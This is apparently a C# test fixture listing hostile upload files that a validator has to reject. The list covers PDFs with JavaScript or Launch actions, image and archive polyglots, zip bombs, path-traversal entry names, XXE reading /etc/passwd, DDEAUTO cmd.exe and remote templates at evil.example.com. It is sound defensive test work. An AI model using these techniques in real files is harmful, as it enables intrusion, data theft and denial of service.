using System.Text;
using static PlatformSaaS.Kernel.Tests.Blobs.FileMaker;

namespace PlatformSaaS.Kernel.Tests.Blobs;

/// <summary>A hostile file and the fault it has to meet.</summary>
internal sealed record HostileFile(string Title, string Name, Func<byte[]> Content, string Fault);

/// <summary>Everything that must not get through, made in code.</summary>
internal static class HostileFiles
{
    private static readonly byte[] Html = Bytes("<!DOCTYPE html><html><script>alert(1)</script></html>");

    public static IReadOnlyList<HostileFile> All { get; } = [.. Names(), .. Pdfs(), .. Pictures(), .. Archives(), .. Documents()];

    private static IEnumerable<HostileFile> Names()
    {
        yield return new("page behind a PDF name", "x.pdf.html", () => Html, "upload.type");
        yield return new("SVG behind a semicolon", "x.jpg;.svg", () => Bytes("<svg/>"), "upload.type");
        yield return new("SVG with script", "x.svg", () => Bytes("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>1</script></svg>"), "upload.type");
        yield return new("page", "x.html", () => Html, "upload.type");
        yield return new("no extension", "berkas", () => PdfMaker.Good(), "upload.type");
        yield return new("program", "x.exe", () => Bytes("MZ..."), "upload.type");
        yield return new("hidden by a direction mark", "laporan\u202efdp.exe", () => Bytes("MZ..."), "upload.type");
        yield return new("cut by NUL", "x.html\0", () => Html, "upload.type");
        yield return new("trailing dot", "x.exe.", () => Bytes("MZ..."), "upload.type");
        yield return new("alternate stream", "x.html::$DATA", () => Html, "upload.type");
        yield return new("empty", "x.pdf", () => [], "upload.empty");
        yield return new("one byte over", "x.pdf", () => new byte[HostileLimit + 1], "upload.too-large");
        yield return new("far over", "x.pdf", () => new byte[HostileLimit * 2], "upload.too-large");
    }

    public const int HostileLimit = 2 * 1024 * 1024;

    private static IEnumerable<HostileFile> Pdfs()
    {
        yield return Pdf("page as PDF", () => Html, "upload.content");
        yield return Pdf("junk before the header", () => [.. Bytes("junk\n"), .. PdfMaker.Good()], "upload.content");
        yield return Active("JavaScript on opening", () => PdfMaker.With("<< /S /JavaScript /JS (app.alert(1)) >>", "/OpenAction 4 0 R"));
        yield return Active("JavaScript name with escapes", () => PdfMaker.With("<< /S /J#61vaScript /J#53 (app.alert(1)) >>", "/OpenAction 4 0 R"));
        yield return Active("kind of action by reference", () => new PdfMaker().Object(4, "<< /S 5 0 R /Foo (x) >>").Object(5, "/JavaScript").Build());
        yield return Active("JavaScript in the name tree", () => PdfMaker.With("<< /Names [(a) 5 0 R] >>", "/Names << /JavaScript 4 0 R >>"));
        yield return Active("misaligned dictionary", () => PdfMaker.With("<< null /JS (app.alert(1)) >>"));
        yield return Active("JavaScript address", () => PdfMaker.With("<< /S /URI /URI (javascript:alert\\(1\\)) >>"));
        yield return Active("JavaScript address in hexadecimal", () => PdfMaker.With("<< /S /URI /URI <6A6176617363726970743A616C657274> >>"));
        yield return Active("Launch", () => PdfMaker.With("<< /S /Launch /F (cmd.exe) >>", "/OpenAction 4 0 R"));
        yield return Active("embedded file", () => PdfMaker.With("<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>", "/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>"));
        yield return Active("additional action of a page", () => new PdfMaker { PageExtra = "/AA << /O 4 0 R >>" }.Object(4, "<< /S /Named /N /Print >>").Build());
        yield return Active("rich media", () => PdfMaker.With("<< /Type /Annot /Subtype /RichMedia >>"));
        yield return Active("XFA form", () => PdfMaker.With("<< /Fields [] /XFA 5 0 R >>", "/AcroForm 4 0 R"));
        yield return Active("form sent out", () => PdfMaker.With("<< /S /SubmitForm /F (http://evil.example.com) >>"));
        yield return Active("file on another computer", () => PdfMaker.With(@"<< /S /GoToR /F (\\\\evil.example.com\\share\\a.pdf) >>"));
        yield return Active("JavaScript in an object stream", () => new PdfMaker { CatalogExtra = "/OpenAction 7 0 R" }.ObjectStream(4, 7, "<< /S /JavaScript /JS (app.alert(1)) >>").Build());
        yield return Active("untyped object stream", () => new PdfMaker().ObjectStream(4, 7, "<< /S /JavaScript /JS (1) >>", "").Build());
        yield return Active("object hidden in the data of a stream", () => new PdfMaker().Stream(4, "/Type /XObject", Bytes("9 0 obj << /S /JavaScript /JS (1) >> endobj")).Build());
        yield return Active("object hidden in a comment", () => [.. PdfMaker.Good()[..^6], .. Bytes("% 9 0 obj << /S /Launch >> endobj\n%%EOF\n")]);
        yield return Pdf("object stream with a filter of another kind", () => new PdfMaker().Stream(4, "/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode", [1, 2, 3]).Build(), "upload.pdf-complex");
        yield return Pdf("object stream that is a bomb", () => new PdfMaker().Stream(4, "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", PdfMaker.Deflate(new byte[70_000_000])).Build(), "upload.pdf-complex");
        yield return Pdf("object stream that is damaged", () => new PdfMaker().Stream(4, "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", Bytes("not zlib")).Build(), "upload.damaged");
        yield return Pdf("very deep nesting", () => PdfMaker.With(new string('[', 5_000)), "upload.pdf-complex");
        yield return Pdf("unclosed strings without end", () => PdfMaker.With(string.Concat(Enumerable.Repeat("1 0 obj ( ", 60_000))), "upload.pdf-complex");
        yield return Pdf("encrypted", () => new PdfMaker { TrailerExtra = "/Encrypt 4 0 R" }.Object(4, "<< /Filter /Standard >>").Build(), "upload.encrypted");
        yield return Pdf("cut in the middle", () => PdfMaker.Good(20)[..900], "upload.damaged");
        yield return Pdf("cut before the end mark", () => PdfMaker.Good()[..^7], "upload.damaged");
        yield return Pdf("cyclic page tree", () => new PdfMaker { PagesBody = "<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>" }.Build(), "upload.damaged");
        yield return Pdf("page tree in a ring", () => new PdfMaker { PagesBody = "<< /Type /Pages /Kids [4 0 R] /Count 1 >>" }.Object(4, "<< /Type /Pages /Kids [2 0 R] /Count 1 >>").Build(), "upload.damaged");
        yield return Pdf("no pages", () => new PdfMaker { PagesBody = "<< /Type /Pages /Kids [] /Count 0 >>" }.Build(), "upload.damaged");
        yield return Pdf("header only", () => Bytes("%PDF-1.7\nstartxref\n0\n%%EOF"), "upload.damaged");
        yield return Pdf("PDF and page", () => [.. PdfMaker.Good(), .. Html], "upload.disguised");
        yield return Pdf("PDF with a page in a comment", () => [.. Bytes("%PDF-1.7\n%<ScRiPt>alert(1)</sCrIpT>\n"), .. PdfMaker.Good()], "upload.disguised");
        yield return Pdf("PDF and ZIP", () => [.. PdfMaker.Good(), .. ArchiveMaker.Of(("a.txt", Bytes("a"))), .. Bytes("\n%startxref\n0\n%%EOF")], "upload.disguised");
        yield return Pdf("test virus", () => [.. PdfMaker.Good(), .. Eicar], "upload.malware");
        yield return Pdf("test virus alone", () => Eicar, "upload.malware");
    }

    private static IEnumerable<HostileFile> Pictures()
    {
        yield return new("page as JPG", "x.jpg", () => Html, "upload.content");
        yield return new("page behind a JPEG mark", "x.jpg", () => [0xFF, 0xD8, 0xFF, 0xE0, .. Html], "upload.disguised");
        yield return new("page in a JPEG comment", "x.jpg", () => Jpeg(segments: JpegSegment(0xFE, Html)), "upload.disguised");
        yield return new("page behind a JPEG", "x.jpg", () => Jpeg(trailing: Html), "upload.disguised");
        yield return new("script in UTF-16 behind a JPEG", "x.jpg", () => Jpeg(trailing: Encoding.Unicode.GetBytes("<script>1</script>")), "upload.disguised");
        yield return new("PHP in EXIF", "x.jpg", () => Jpeg(segments: JpegSegment(0xE1, Bytes("Exif\0\0<?php system(1); ?>"))), "upload.disguised");
        yield return new("JPEG and ZIP", "x.jpg", () => Jpeg(trailing: ArchiveMaker.Of(("a.js", Bytes("1")))), "upload.disguised");
        yield return new("JPEG of 60,000 × 60,000", "x.jpg", () => Jpeg(60_000, 60_000), "upload.picture-size");
        yield return new("JPEG without frame", "x.jpg", () => [0xFF, 0xD8, 0xFF, 0xD9], "upload.damaged");
        yield return new("JPEG cut", "x.jpg", () => Jpeg()[..^2], "upload.damaged");
        yield return new("JPEG with a lying segment", "x.jpg", () => [0xFF, 0xD8, 0xFF, 0xE0, 0xFF, 0xFF, 1, 2, 3], "upload.damaged");
        yield return new("PNG of 50,000 × 50,000", "x.png", () => Png(50_000, 50_000), "upload.picture-size");
        yield return new("PNG one pixel high and endless", "x.png", () => Png(2_000_000_000, 1), "upload.picture-size");
        yield return new("PNG without pixels", "x.png", () => [.. Png()[..33], .. Chunk("IEND", [])], "upload.damaged");
        yield return new("PNG cut", "x.png", () => Png()[..^6], "upload.damaged");
        yield return new("PNG with a page in its text", "x.png", () => Png(extraChunk: Chunk("tEXt", Html)), "upload.disguised");
        yield return new("page behind a PNG", "x.png", () => Png(trailing: Html), "upload.disguised");
        yield return new("GIF as PNG", "x.png", () => Bytes("GIF89a"), "upload.content");
        yield return new("PDF as JPG", "x.jpg", () => PdfMaker.Good(), "upload.content");
    }

    private static IEnumerable<HostileFile> Archives()
    {
        yield return Zip("not an archive", () => Bytes("Rar!...."), "upload.content");
        yield return Zip("empty archive", () => new ArchiveMaker().Build(), "upload.content");
        yield return Zip("folder only", () => ArchiveMaker.Of(("a/", [])), "upload.empty");
        yield return Zip("bomb", () => ArchiveMaker.Of(("a.txt", new byte[40_000_000])), "upload.zip-bomb");
        yield return Zip("bomb of many", () => ArchiveMaker.Of([.. Enumerable.Range(0, 30).Select(i => ($"{i}.txt", new byte[900_000]))]), "upload.zip-bomb");
        yield return Zip("nested bomb", () => ArchiveMaker.Of(("a.zip", ArchiveMaker.Of(("b.zip", ArchiveMaker.Of(("c.txt", new byte[40_000_000])))))), "upload.zip-bomb");
        yield return Zip("nested too deeply", () => Nest(6), "upload.zip-nested");
        yield return Zip("overlapping", () => new ArchiveMaker().Add("a.txt", Bytes("aaaa")).Add("a.txt ", Bytes("aaaa"), shareBody: true).Build(), "upload.zip-name");
        yield return Zip("two names for one body", () => new ArchiveMaker().Add("a.txt", Bytes("aaaa")).Add("b.txt", Bytes("aaaa"), shareBody: true).Build(), "upload.damaged");
        yield return Zip("same entry twice", () => Overlap(), "upload.zip-bomb");
        yield return Zip("lying length", () => new ArchiveMaker().Add("a.txt", new byte[5_000], claimed: 10).Build(), "upload.zip-bomb");
        yield return Zip("100,000 files", () => ArchiveMaker.Of([.. Enumerable.Range(0, 20_000).Select(i => ($"{i}", Array.Empty<byte>()))]), "upload.zip-entries");
        foreach (var name in new[] { "../a.txt", "a/../../b.txt", @"..\a.txt", "/etc/passwd", @"C:\a.txt", @"\\server\share\a.txt", "a\0.txt", "a\r\nb.txt", "a\u202etxt.exe", "CON.txt", "a.exe ", "", new string('x', 300) })
        {
            yield return Zip($"name '{name}'", () => ArchiveMaker.Of((name, Bytes("x"))), "upload.zip-name");
        }
        yield return Zip("two names alike", () => ArchiveMaker.Of(("a.txt", Bytes("x")), ("A.TXT", Bytes("y"))), "upload.zip-name");
        yield return Zip("two faces of a name", () => new ArchiveMaker().Add("a.txt", Bytes("x"), localName: "a.exe").Build(), "upload.damaged");
        yield return Zip("symbolic link", () => new ArchiveMaker().Add("link", Bytes("/etc/passwd"), attributes: 0xA1FFu << 16, method: 0).Build(), "upload.zip-content");
        yield return Zip("encrypted", () => new ArchiveMaker().Add("a.txt", Bytes("x"), flags: 1).Build(), "upload.encrypted");
        yield return Zip("unknown method", () => new ArchiveMaker().Add("a.txt", Bytes("x"), method: 12).Build(), "upload.zip-method");
        foreach (var name in new[] { "a.exe", "a.js", "a.html", "a.svg", "a.php", "a.lnk", "a.docm", "a.jar", "a.pdf.vbs", "a.rar", "x/y/a.PS1" })
        {
            yield return Zip($"inside: {name}", () => ArchiveMaker.Of(("ok.txt", Bytes("ok")), (name, Bytes("x"))), "upload.zip-content");
        }
        yield return Zip("program under another name", () => ArchiveMaker.Of(("a.txt", Bytes("MZ\u0090"))), "upload.zip-content");
        yield return Zip("page under another name", () => ArchiveMaker.Of(("a.txt", [.. Bytes("\uFEFF  "), .. Html])), "upload.zip-content");
        yield return Zip("other archive under another name", () => ArchiveMaker.Of(("a.dat", [0x37, 0x7A, 0xBC, 0xAF, 0x27, 0x1C])), "upload.zip-content");
        yield return Zip("PDF with JavaScript inside", () => ArchiveMaker.Of(("a.pdf", PdfMaker.With("<< /S /JavaScript /JS (1) >>"))), "upload.pdf-active");
        yield return Zip("huge PNG inside", () => ArchiveMaker.Of(("a.png", Png(50_000, 50_000))), "upload.picture-size");
        yield return Zip("Word with macros inside", () => ArchiveMaker.Of(("a.docx", Docx(("word/vbaProject.bin", "x")))), "upload.macro");
        yield return Zip("test virus inside", () => ArchiveMaker.Of(("a.txt", Eicar)), "upload.malware");
        yield return Zip("test virus two archives deep", () => ArchiveMaker.Of(("b.zip", ArchiveMaker.Of(("a.txt", [.. new byte[100_000], .. Eicar])))), "upload.malware");
        yield return Zip("page behind the end", () => [.. ArchiveMaker.Of(("a.txt", Bytes("x"))), .. Html], "upload.disguised");
        yield return Zip("page in the comment", () => new ArchiveMaker { Comment = "<script>1</script>" }.Add("a.txt", Bytes("x")).Build(), "upload.disguised");
        yield return Zip("program before the archive", () => [.. Bytes("MZ"), .. ArchiveMaker.Of(("a.txt", Bytes("x")))], "upload.content");
        yield return Zip("cut", () => ArchiveMaker.Of(("a.txt", Bytes("hello hello hello")))[..40], "upload.damaged");
    }

    private static IEnumerable<HostileFile> Documents()
    {
        yield return Word("macros", () => Docx(("word/vbaProject.bin", "x")), "upload.macro");
        yield return Word("macro type only", () => Docx(("[Content_Types].xml", "<Types xmlns=\"urn:t\"><Override ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>")), "upload.macro");
        yield return Word("remote template", () => Docx(("word/_rels/settings.xml.rels", Relationships("attachedTemplate", "https://evil.example.com/t.dotm"))), "upload.remote");
        yield return Word("template on another computer", () => Docx(("word/_rels/settings.xml.rels", Relationships("attachedTemplate", @"file:///\\evil.example.com\t.dotm"))), "upload.remote");
        yield return Word("remote picture", () => Docx(("word/_rels/document.xml.rels", Relationships("image", "https://evil.example.com/a.png"))), "upload.remote");
        yield return Word("remote object", () => Docx(("word/_rels/document.xml.rels", Relationships("oleObject", "http://evil.example.com/a!x-usc:http://evil"))), "upload.remote");
        yield return Word("link that runs script", () => Docx(("word/_rels/document.xml.rels", Relationships("hyperlink", "javascript:alert(1)"))), "upload.remote");
        yield return Word("embedded object", () => Docx(("word/embeddings/oleObject1.bin", "x")), "upload.macro");
        yield return Word("ActiveX", () => Docx(("word/activeX/activeX1.xml", "<a/>")), "upload.macro");
        yield return Word("page as a part", () => Docx(("word/afchunk.html", "<html></html>")), "upload.zip-content");
        yield return Word("imported page", () => Docx(("word/_rels/document.xml.rels", Relationships("aFChunk", "afchunk.dat", external: false))), "upload.macro");
        yield return Word("automatic command", () => Docx(("word/document.xml", "<w:document xmlns:w=\"urn:w\"><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:document>")), "upload.macro");
        yield return Word("XXE", () => Docx(("word/document.xml", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><w:document xmlns:w=\"urn:w\">&e;</w:document>")), "upload.damaged");
        yield return Word("billion laughs in the relations", () => Docx(("_rels/.rels", "<!DOCTYPE x [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;\">]><Relationships>&b;</Relationships>")), "upload.damaged");
        yield return Word("plain archive", () => ArchiveMaker.Of(("a.txt", Bytes("x"))), "upload.damaged");
        yield return Word("workbook as document", () => Xlsx(), "upload.content");
        yield return Word("locked by password", () => Doc(false, "EncryptedPackage"), "upload.encrypted");
        yield return new("Excel 4 macro sheet", "x.xlsx", () => Xlsx(("xl/macrosheets/sheet1.xml", "<a/>")), "upload.macro");
        yield return new("command in a data link", "x.xlsx", () => Xlsx(("xl/externalLinks/externalLink1.xml", "<externalLink><ddeLink ddeService=\"cmd\"/></externalLink>")), "upload.macro");
        yield return new("remote workbook", "x.xlsx", () => Xlsx(("xl/externalLinks/_rels/externalLink1.xml.rels", Relationships("externalLinkPath", "https://evil.example.com/a.xlsx"))), "upload.remote");
        yield return new("document as workbook", "x.xlsx", () => Docx(), "upload.content");
        yield return new("old Word with macros", "x.doc", () => Doc(false, "Macros"), "upload.macro");
        yield return new("old Word with VBA", "x.doc", () => Doc(false, "_VBA_PROJECT"), "upload.macro");
        yield return new("old Word with a package", "x.doc", () => Doc(false, "\u0001Ole10Native"), "upload.macro");
        yield return new("old Word, encrypted", "x.doc", () => Doc(true), "upload.encrypted");
        yield return new("old Word with a remote template", "x.doc", () => [.. Doc(), .. Encoding.Unicode.GetBytes("http://evil.example.com/t.dotm\0")], "upload.remote");
        yield return new("old Word without document", "x.doc", () => [.. Doc().AsSpan(0, 640), .. new byte[4000]], "upload.content");
        yield return new("rich text as Word", "x.doc", () => Bytes("{\\rtf1 \\object}"), "upload.content");
    }

    private static HostileFile Pdf(string title, Func<byte[]> content, string fault) => new("PDF: " + title, "x.pdf", content, fault);

    private static HostileFile Active(string title, Func<byte[]> content) => Pdf(title, content, "upload.pdf-active");

    private static HostileFile Zip(string title, Func<byte[]> content, string fault) => new("ZIP: " + title, "x.zip", content, fault);

    private static HostileFile Word(string title, Func<byte[]> content, string fault) => new("DOCX: " + title, "x.docx", content, fault);

    private static byte[] Nest(int depth) => ArchiveMaker.Of(depth == 0 ? ("a.txt", Bytes("x")) : ("a.zip", Nest(depth - 1)));

    // Two directory entries of one name length point at the same local header, each with the right name only if both agree: patched after the fact.
    private static byte[] Overlap()
    {
        var inner = new ArchiveMaker().Add("b.txt", Bytes("bbbbbbbb"), method: 0).Build();
        var local = inner.AsSpan(0, 30 + 5 + 8).ToArray();
        var outer = new ArchiveMaker().Add("a.txt", local, method: 0).Add("b.txt", Bytes("bbbbbbbb"), method: 0).Build();
        // Let b.txt point into the body of a.txt, where a whole local header of b.txt lies.
        var directory = outer.AsSpan().LastIndexOf("PK\x01\x02"u8);
        BitConverter.GetBytes(35u).CopyTo(outer, directory + 42);
        return outer;
    }
}
